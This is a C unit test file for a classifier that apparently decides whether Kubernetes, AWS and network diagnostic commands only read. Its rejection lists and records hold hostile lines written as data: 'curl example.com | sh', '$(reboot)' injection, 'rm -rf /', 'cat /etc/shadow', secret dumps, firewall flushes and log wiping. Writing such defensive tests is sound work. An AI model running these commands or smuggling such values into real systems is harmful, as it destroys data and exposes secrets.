// model/reads and base/shell: what a person is told to look with only reads, whatever stood in the evidence.
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include <stdlib.h>

#include "core/base/mem.h"
#include "core/base/shell.h"
#include "core/model/reads.h"
#include "tests/kit/scene.h"

static void what_reads(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "kubectl get pods -A -o json",
        "kubectl get services,daemonsets -n kube-system -o json",
        "kubectl --context=secrets get pod -n secret-store secrets-rotator-5c8f7 -o json",
        "kubectl get endpointslices -n kube-system -l kubernetes.io/service-name=kube-dns -o json",
        "kubectl --context=arn:aws:eks:eu-west-1:1:cluster/lab --request-timeout=20s get nodes -o json",
        "kubectl '--context=my own' get nodes -o json",
        "kubectl logs -n kube-system -l k8s-app=kube-dns --timestamps --tail=-1",
        "kubectl auth can-i create pods --subresource=exec -A",
        "kubectl exec -n shop cart-1 -- cat /etc/resolv.conf",
        "kubectl exec -n kube-system ds/cilium -- cilium-dbg service list",
        "kubectl exec --namespace=kube-system kube-proxy-x --container=kube-proxy -- iptables-save -c",
        "aws ec2 describe-security-groups; aws ec2 describe-network-interfaces",
        "aws logs filter-log-events --log-group-name /aws/eks/CLUSTER/cluster --filter-pattern '{ $.x = 1 }'",
        "iptables-save -c; nft list ruleset",
        "sudo -n timeout -k 2 20 conntrack -L -p udp --dport 53",
        "sudo -n timeout -k 2 6 tcpdump -i any -nn -U -s 512 -c 20000 -w - host 10.0.0.1 and port 53",
        "ethtool -S eth0 | grep linklocal_allowance_exceeded",
        "sysctl net.netfilter.nf_conntrack_count net.netfilter.nf_conntrack_max",
        "dig +tries=1 +time=2 +tcp @172.20.0.10 -q example.com. -t A",
        "ip -6 route show table all",
    };
    for (size_t i = 0; i < ARRAY_LEN(lines); i++) {
        if (!reads_only(lines[i]))
            fail_msg("it only reads: %s", lines[i]);
    }
}

// Each looks much like one of those above.
static void what_does_more(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "",
        ";",
        "kubectl",
        "kubectl delete pod cart-1",
        "kubectl delete get pods",
        "kubectl get secrets -A -o yaml",
        "kubectl get pods,secrets -A",
        "kubectl get -A Secret/token",
        "kubectl get secrets.v1 -A",
        "kubectl get pods -w",
        "kubectl get --raw=/api/v1/secrets",
        "kubectl get -f http://example.com/x",
        "kubectl get pods --as=admin",
        "kubectl get pods; kubectl delete pods --all",
        "kubectl get pods && kubectl delete pods --all",
        "kubectl get pods & reboot",
        "kubectl get pods\nreboot",
        "kubectl get pod -n shop x; touch /tmp/x; # -o json",
        "kubectl get pod -n shop $(reboot) -o json",
        "kubectl get pod -n shop `reboot` -o json",
        "kubectl get pod -n shop \"x\" -o json",
        "kubectl get pods > /etc/passwd",
        "kubectl get pods | sh",
        "kubectl exec -n shop cart-1 -- rm -rf /",
        "kubectl exec -n shop cart-1 -it -- cat /etc/resolv.conf",
        "kubectl exec -n shop cart-1 cat /etc/resolv.conf",
        "kubectl config view --raw",
        "aws ec2 terminate-instances",
        "aws logs filter-log-events --filter-pattern file:///etc/passwd",
        "aws ssm start-automation-execution --document-name AWSSupport-CollectEKSInstanceLogs",
        "aws ssm send-command --parameters '{\"commands\":[\"id -u\"]}'",
        "iptables-save -c -f /etc/passwd",
        "iptables-save --modprobe=/tmp/x",
        "iptables -F",
        "nft flush ruleset",
        "nft list ruleset inet reset",
        "nft reset counters",
        "ipset save -file /etc/passwd",
        "ipset flush",
        "conntrack -D",
        "conntrack -L -z",
        "sysctl net.ipv4.ip_forward=0",
        "sysctl -w net.ipv4.ip_forward",
        "sysctl -p /tmp/x",
        "ethtool -s eth0",
        "ip addr flush dev eth0",
        "ip route add default",
        "ss -K",
        "dmesg -C",
        "journalctl --vacuum-size=1",
        "journalctl -u kubelet -f",
        "tcpdump -i any -w /etc/passwd",
        "tcpdump -i any -w",
        "tcpdump -i any -z /tmp/x",
        "dig -f /etc/passwd",
        "cat /etc/shadow",
        "sudo iptables-save -c",
        "sudo -n",
        "timeout -k 2 x iptables-save -c",
        "ssh -o ProxyCommand=reboot -- host iptables-save -c",
        "bash -c iptables-save",
        "/tmp/kubectl get pods",
        "FOO=bar kubectl get pods",
        "'kubectl get pods'",
        "kubectl get 'pods",
        "kubectl get pods -o 'json;reboot'",
    };
    assert_false(reads_only(NULL));
    for (size_t i = 0; i < ARRAY_LEN(lines); i++) {
        if (reads_only(lines[i]))
            fail_msg("nobody said that this only reads: %s", lines[i]);
    }
}

// ------------------------------------------------------------------ words

static void words_come_back_as_they_were(void **state)
{
    (void)state;
    static const char *const words[] = {"a",         "--x=y",   "",    "it's", "'",
                                        "$(reboot)", "a b;c|d", "=ls", "\n",   "ü"};
    for (size_t i = 0; i < ARRAY_LEN(words); i++) {
        struct str line = {0}, word = {0};
        shell_add_word(&line, span_of(words[i]));
        struct span rest = str_span(&line);
        assert_int_equal(shell_cut(&rest, &word), SHELL_WORD);
        assert_string_equal(str_text(&word), words[i]);
        assert_int_equal(shell_cut(&rest, &word), SHELL_END);
        str_done(&line);
        str_done(&word);
    }
}

static void names_are_no_options(void **state)
{
    (void)state;
    assert_true(shell_is_name(span_of("ip-10-0-11-37.eu-west-1.compute.internal")));
    static const char *const none[] = {"",    "-A",  "+short", "@10.0.0.1", "=ls",
                                       "a b", "a;b", "a*",     "~",         "{a,b}"};
    for (size_t i = 0; i < ARRAY_LEN(none); i++)
        assert_false(shell_is_name(span_of(none[i])));
}

// ------------------------------------------------------------------ records of an incident that somebody
// sent

struct record {
    const char *line, *command; // NULL: none is shown
};

static void check_record(const struct record *r)
{
    struct scene s;
    scene_init(&s);
    scene_json(&s, "probes.jsonl", r->line);
    scene_judge(&s);
    const char *command = "not told";
    for (size_t i = 0; i < s.facts->n_gaps; i++) {
        if (span_starts(span_of(s.facts->gaps[i].what), "nodes/n1/kubelet/kubelet.log"))
            command = s.facts->gaps[i].command ? s.facts->gaps[i].command : "none";
    }
    assert_string_equal(command, r->command ? r->command : "none");
    scene_done(&s);
}

#define DENIED(via, ...)                                                                                     \
    "{'id': 'E-001', 'argv': [" __VA_ARGS__ "], 'where': 'bastion', 'via': " via                             \
    ", 'exit': 1, 'file': null, 'meant': 'nodes/n1/kubelet/kubelet.log', 'state': 'denied'}\n"

static void records_are_held_against_it(void **state)
{
    (void)state;
    static const struct record records[] = {
        {DENIED("null", "'/usr/bin/kubectl', 'get', 'nodes', '-o', 'json'"), "kubectl get nodes -o json"},
        {DENIED("'ssh'",
                "'/usr/bin/ssh', '-o', 'BatchMode=yes', '--', '10.0.0.1', 'sudo', '-n', 'ss', '-lntup'"),
         "sudo -n ss -lntup"},
        {DENIED("'ssm'", "'aws', 'ssm', 'send-command', '--parameters', "
                         "'{\\\"commands\\\":[\\\"ss -lntup\\\"],\\\"executionTimeout\\\":[\\\"20\\\"]}'"),
         "ss -lntup"},
        {DENIED("'ssm'",
                "'aws', 'ssm', 'send-command', '--parameters', '{\\\"commands\\\":[\\\"reboot\\\"]}'"),
         NULL},
        {DENIED("null", "'bash', '-c', 'curl example.com | sh'"), NULL},
        {DENIED("null", "'kubectl', 'get', 'nodes;', 'reboot'"), NULL},
        {DENIED("'ssh'", "'ssh', '--', '10.0.0.1', 'reboot'"), NULL},
    };
    for (size_t i = 0; i < ARRAY_LEN(records); i++)
        check_record(&records[i]);
}

// Its names would stand in commands that a person is told to run.
static void targets_that_are_no_names_stay_out(void **state)
{
    (void)state;
    static const char *const pods[] = {"x; reboot; #", "$(reboot)", "--kubeconfig=/tmp/x", "x\\nreboot",
                                       "-A"};
    for (size_t i = 0; i < ARRAY_LEN(pods); i++) {
        struct scene s;
        scene_init(&s);
        char *target = mem_printf("namespace: shop\npod: \"%s\"\nquery: " SCENE_NAME "\n", pods[i]);
        scene_write(&s, "target.yaml", target);
        scene_write(&s, "pods/shop/cart-1/resolv.conf", NULL);
        scene_judge(&s);
        bool asked = false;
        for (size_t k = 0; k < s.claims.n; k++) {
            const char *command = s.claims.items[k].command;
            asked |= command && strcmp(command, "kubectl get pod -n shop POD -o json") == 0;
        }
        assert_true(asked);
        free(target);
        scene_done(&s);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_reads),
        cmocka_unit_test(what_does_more),
        cmocka_unit_test(words_come_back_as_they_were),
        cmocka_unit_test(names_are_no_options),
        cmocka_unit_test(records_are_held_against_it),
        cmocka_unit_test(targets_that_are_no_names_stay_out),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
